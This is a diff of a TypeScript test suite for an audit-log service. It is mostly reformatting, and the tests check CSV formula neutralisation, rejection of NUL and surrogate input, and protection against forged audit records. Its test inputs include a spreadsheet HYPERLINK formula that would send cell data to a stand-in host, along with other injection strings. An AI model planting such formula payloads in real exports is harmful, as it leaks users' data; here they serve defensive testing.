@@ -132,22 +132,54 @@ describe('CSV export neutralises formulas in every column', () => {
     const expected: string[][] = [];
     for (let n = 0; n < 300; n++) {
       const rec: Record<string, unknown> = {
-        emit_time: text(), level: text(), user_email: text(), caller_ip_address: text(), operation: text(),
-        details: { [text()]: text() }, status: text(), category: text(), version: text(), log_id: text(),
-        principal: { id: text(), type: text(), name: text(), api_key_id: text() }, request_id: text(),
+        emit_time: text(),
+        level: text(),
+        user_email: text(),
+        caller_ip_address: text(),
+        operation: text(),
+        details: { [text()]: text() },
+        status: text(),
+        category: text(),
+        version: text(),
+        log_id: text(),
+        principal: { id: text(), type: text(), name: text(), api_key_id: text() },
+        request_id: text(),
       };
       const accountId = text();
       const ingestedBy = rand() < 0.2 ? null : text();
       const storedAt = Math.floor(rand() * 2e12);
-      rows.push({ id: n + 1, accountId, seq: n + 1, storedAt, prevHash: '', hash: '', ingestedBy, recordJson: JSON.stringify(rec), columns: { logId: '', emitMs: 0, operation: '', userEmail: '', principalId: '', status: '', namespace: null } });
+      rows.push({
+        id: n + 1,
+        accountId,
+        seq: n + 1,
+        storedAt,
+        prevHash: '',
+        hash: '',
+        ingestedBy,
+        recordJson: JSON.stringify(rec),
+        columns: { logId: '', emitMs: 0, operation: '', userEmail: '', principalId: '', status: '', namespace: null },
+      });
       const p = rec['principal'] as Record<string, string>;
       const byColumn: Record<(typeof CSV_COLUMNS)[number], string> = {
-        account_id: accountId, sequence: String(n + 1), stored_at: new Date(storedAt).toISOString(), ingested_by: ingestedBy ?? '',
-        emit_time: rec['emit_time'] as string, level: rec['level'] as string, user_email: rec['user_email'] as string,
-        caller_ip_address: rec['caller_ip_address'] as string, operation: rec['operation'] as string, status: rec['status'] as string,
-        category: rec['category'] as string, version: rec['version'] as string, log_id: rec['log_id'] as string,
-        request_id: rec['request_id'] as string, principal_id: p['id']!, principal_type: p['type']!, principal_name: p['name']!,
-        principal_api_key_id: p['api_key_id']!, details: JSON.stringify(rec['details']),
+        account_id: accountId,
+        sequence: String(n + 1),
+        stored_at: new Date(storedAt).toISOString(),
+        ingested_by: ingestedBy ?? '',
+        emit_time: rec['emit_time'] as string,
+        level: rec['level'] as string,
+        user_email: rec['user_email'] as string,
+        caller_ip_address: rec['caller_ip_address'] as string,
+        operation: rec['operation'] as string,
+        status: rec['status'] as string,
+        category: rec['category'] as string,
+        version: rec['version'] as string,
+        log_id: rec['log_id'] as string,
+        request_id: rec['request_id'] as string,
+        principal_id: p['id']!,
+        principal_type: p['type']!,
+        principal_name: p['name']!,
+        principal_api_key_id: p['api_key_id']!,
+        details: JSON.stringify(rec['details']),
       };
       expected.push(CSV_COLUMNS.map((c) => byColumn[c]));
     }
@@ -173,7 +205,7 @@ describe('CSV export neutralises formulas in every column', () => {
     for (const line of out.split('\r\n').slice(1, 4)) assert.match(line, /^"/);
   });
 
-  it('the issue\'s cells: request_id and caller_ip_address starting with = + - @ tab CR', () => {
+  it("the issue's cells: request_id and caller_ip_address starting with = + - @ tab CR", () => {
     for (const v of ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', "'=1", "'plain"]) {
       const cell = csvField(v);
       const inner = cell.slice(1, -1).replace(/""/g, '"');
@@ -284,7 +316,7 @@ for (const engine of engines()) {
       });
     });
 
-    it('the issue\'s examples: a lone surrogate or NUL in user_email or principal.id is a 400 naming the field; nothing stored', async () => {
+    it("the issue's examples: a lone surrogate or NUL in user_email or principal.id is a 400 naming the field; nothing stored", async () => {
       const cases: [Record<string, unknown>, string][] = [
         [{ user_email: '\ud800@x.example' }, 'records[0].user_email'],
         [{ user_email: 'bad\u0000@x.example' }, 'records[0].user_email'],
@@ -396,7 +428,12 @@ for (const engine of engines()) {
       const before = await s.store.count();
       const bad = [
         await send('POST', '/cloud/users', { spec: { email: 'eve\u0000@x.example', access: { accountAccess: { role: 'ROLE_READ' } } } }, s.t.owner.apiKey),
-        await send('POST', '/cloud/users', { spec: { email: 'eve\ud800@x.example', access: { accountAccess: { role: 'ROLE_READ' } } }, async_operation_id: 'x' }, s.t.owner.apiKey),
+        await send(
+          'POST',
+          '/cloud/users',
+          { spec: { email: 'eve\ud800@x.example', access: { accountAccess: { role: 'ROLE_READ' } } }, async_operation_id: 'x' },
+          s.t.owner.apiKey,
+        ),
         await send('POST', '/api/v1/users/%00/invitation', {}, s.t.owner.apiKey),
         await send('GET', `/cloud/users/${encodeURIComponent('u\u0000')}`, undefined, s.t.owner.apiKey),
         await send('GET', '/api/v1/audit-logs?account=examples&user_email=%00', undefined),
@@ -429,7 +466,9 @@ for (const engine of engines()) {
         });
       try {
         const before = await s.store.count();
-        const nul = CreateUser.encode(CreateUser.fromObject({ spec: { email: 'eve\u0000@x.example', access: { accountAccess: { role: 'ROLE_READ' } } } })).finish();
+        const nul = CreateUser.encode(
+          CreateUser.fromObject({ spec: { email: 'eve\u0000@x.example', access: { accountAccess: { role: 'ROLE_READ' } } } }),
+        ).finish();
         const r1 = await call(nul);
         assert.ok(!Buffer.isBuffer(r1));
         assert.equal(r1.code, grpc.status.INVALID_ARGUMENT);
@@ -454,8 +493,12 @@ for (const engine of engines()) {
         devKey = keyIdOf(dev.apiKey);
       });
 
-      it('a Developer\'s key may not ingest the control plane\'s own operations by default; Owner keys and the deployment token may', async () => {
-        const res = await ingest(undefined, [baseRecord({ operation: 'AppDeploy' }), baseRecord({ operation: 'DeleteUser', emit_time: '2020-01-01T00:00:00Z' })], dev.apiKey);
+      it("a Developer's key may not ingest the control plane's own operations by default; Owner keys and the deployment token may", async () => {
+        const res = await ingest(
+          undefined,
+          [baseRecord({ operation: 'AppDeploy' }), baseRecord({ operation: 'DeleteUser', emit_time: '2020-01-01T00:00:00Z' })],
+          dev.apiKey,
+        );
         assert.equal(res.status, 403);
         const body = (await res.json()) as ErrorBody;
         assert.equal(body.error.index, 1);
@@ -469,7 +512,7 @@ for (const engine of engines()) {
         assert.equal((await ingest(s.t.owner.accountId, [baseRecord({ operation: 'DeleteUser' })])).status, 201);
       });
 
-      it('only an Owner or Global Admin sets a key\'s policy; the change is audited and enforced', async () => {
+      it("only an Owner or Global Admin sets a key's policy; the change is audited and enforced", async () => {
         const path = `/api/v1/api-keys/${devKey}/ingest-policy`;
         assert.equal((await send('PUT', path, { operations: ['*'] }, dev.apiKey)).status, 403, 'a Developer cannot widen its own key');
         const reader = await s.t.addUser('ROLE_READ');
@@ -506,23 +549,29 @@ for (const engine of engines()) {
         assert.equal((await ingest(undefined, [baseRecord({ operation: 'DeleteUser' })], dev.apiKey)).status, 403, 'back to the default');
       });
 
-      it('GetAuditLogs, the query API and every export tell ingested records from the control plane\'s own', async () => {
+      it("GetAuditLogs, the query API and every export tell ingested records from the control plane's own", async () => {
         const res = await send('GET', '/cloud/audit-logs?page_size=1000', undefined, s.t.owner.apiKey);
         assert.equal(res.status, 200);
-        const logs = ((await res.json()) as { logs: { operation: string; raw_details?: Record<string, unknown>; rawDetails?: Record<string, unknown> }[] }).logs;
+        const logs = ((await res.json()) as { logs: { operation: string; raw_details?: Record<string, unknown>; rawDetails?: Record<string, unknown> }[] })
+          .logs;
         const by = (l: (typeof logs)[number]) => (l.raw_details ?? l.rawDetails)!['auditstream_ingested_by'];
         const native = logs.filter((l) => l.operation === 'UpdateAPIKey');
         assert.ok(native.length > 0 && native.every((l) => by(l) === null));
         const forged = logs.filter((l) => l.operation === 'DeleteUser');
         assert.deepEqual(new Set(forged.map(by)), new Set([`apikey:${devKey}`, 'token:deployment']));
-        assert.ok(logs.some((l) => l.operation === 'CreateNamespace' && by(l) === `apikey:${keyIdOf(s.t.owner.apiKey)}`), 'an Owner\'s ingest is marked too');
+        assert.ok(
+          logs.some((l) => l.operation === 'CreateNamespace' && by(l) === `apikey:${keyIdOf(s.t.owner.apiKey)}`),
+          "an Owner's ingest is marked too",
+        );
 
         // The reserved key cannot be forged by ingest.
         const forge = await ingest(undefined, [baseRecord({ details: { auditstream_ingested_by: null } })], s.t.owner.apiKey);
         assert.equal(forge.status, 400);
         assert.equal(((await forge.json()) as ErrorBody).error.field, 'details.auditstream_ingested_by');
 
-        const q = (await (await send('GET', `/api/v1/audit-logs?operation=DeleteUser&order=asc`, undefined, s.t.owner.apiKey)).json()) as { items: { ingested_by: string | null }[] };
+        const q = (await (await send('GET', `/api/v1/audit-logs?operation=DeleteUser&order=asc`, undefined, s.t.owner.apiKey)).json()) as {
+          items: { ingested_by: string | null }[];
+        };
         assert.deepEqual(new Set(q.items.map((i) => i.ingested_by)), new Set([`apikey:${devKey}`, 'token:deployment']));
         const jsonl = (await (await send('GET', '/api/v1/audit-logs/export?format=jsonl', undefined, s.t.owner.apiKey)).text()).trim().split('\n');
         const envs = jsonl.map((l) => JSON.parse(l) as { ingested_by: string | null; record: { operation: string } });
